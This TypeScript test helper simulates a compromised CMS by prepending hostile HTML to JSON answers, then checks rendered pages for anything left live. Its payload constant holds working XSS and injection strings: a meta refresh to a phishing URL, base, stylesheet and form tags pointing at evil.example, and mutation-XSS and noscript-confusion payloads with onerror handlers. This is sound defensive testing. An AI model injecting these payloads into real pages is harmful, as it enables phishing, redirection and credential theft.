/**
 * A CMS that writes hostile HTML (issue 23, item 1: a stolen CMS account, or a CMS that lets an
 * editor paste anything): every string of an answer that holds markup gets the payloads that once
 * got through prepended, whatever field it sits in (the events note under `meta` among them).
 * The pages must come out with none of it live: no meta refresh, no base or stylesheet link to
 * another site, no style, no form, no event handler.
 */

/** The payloads, each naming evil.example, so what survives is easy to find. */
export const HOSTILE_HTML =
  '<meta http-equiv="refresh" content="0;url=https://evil.example/phish">' +
  '<base href="https://evil.example/">' +
  '<link rel="stylesheet" href="https://evil.example/x.css">' +
  '<style>body{display:none}</style>' +
  '<form action="https://evil.example/steal"><input name="p"></form>' +
  '<math><mtext><table><mglyph><style><img src=x onerror="location=\'https://evil.example/\'">' +
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>';

/** Every string under `value` that holds markup, with the payloads in front. */
function poison(value: unknown): unknown {
  if (typeof value === 'string') return value.includes('<') ? HOSTILE_HTML + value : value;
  if (Array.isArray(value)) return value.map(poison);
  if (value && typeof value === 'object') {
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, poison(v)]));
  }
  return value;
}

/** A captured answer's body with the payloads in every HTML string; a body that is not JSON as it was. */
export function hostileBody(body: string): string {
  try {
    return JSON.stringify(poison(JSON.parse(body)));
  } catch {
    return body;
  }
}

/** What of the payloads is live in a page: each a short name, empty when the page is clean. */
export function liveHostile(html: string): string[] {
  const found: string[] = [];
  if (/<meta[^>]+http-equiv/i.test(html)) found.push('meta refresh');
  if (/<(?:base|link|form)\b[^>]*evil\.example/i.test(html)) found.push('base, link or form to evil.example');
  if (/<style>body\{display:none\}/i.test(html)) found.push('injected style');
  if (/<[a-z][^>]*\son[a-z]+\s*=/i.test(html)) found.push('event handler');
  return found;
}
